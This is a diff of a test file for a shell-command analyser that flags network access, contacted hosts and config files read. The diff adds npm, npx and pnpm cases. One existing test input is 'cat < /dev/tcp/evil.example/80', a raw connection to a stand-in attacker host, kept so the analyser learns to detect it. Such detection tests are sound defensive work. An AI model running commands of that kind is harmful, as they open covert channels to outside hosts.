@@ -54,13 +54,20 @@ describe("CommandFacts fields", () => {
     ["cat < /dev/tcp/evil.example/80", false, ["evil.example"]],
     ["git status", false, []],
     ["ls -la", false, []],
+    ["npm view react version", true, []],
+    ["npm outdated", true, []],
+    ["npx prettier --check .", true, []],
+    ["npm ls", false, []],
+    ["npm --version", false, []],
   ])("network: %s", (command, network, hosts) => {
     const facts = top(command);
     expect({ network: facts.network || facts.hosts.length > 0, hosts: facts.hosts }).toEqual({ network: network || hosts.length > 0, hosts });
   });
 
   it.each<[string, string[]]>([
-    ["yarn --version", [".yarnrc.yml", ".yarnrc"]],
+    ["yarn --version", [".yarnrc.yml", ".yarnrc", ".npmrc"]],
+    ["npm ls", [".npmrc"]],
+    ["pnpm ls", [".pnpmfile.cjs", ".pnpmfile.mjs", "pnpm-workspace.yaml", ".npmrc"]],
     ["cargo --version", ["rust-toolchain.toml", "rust-toolchain"]],
     ["git status", [".git/config", ".git/config.worktree"]],
     ["ls", []],
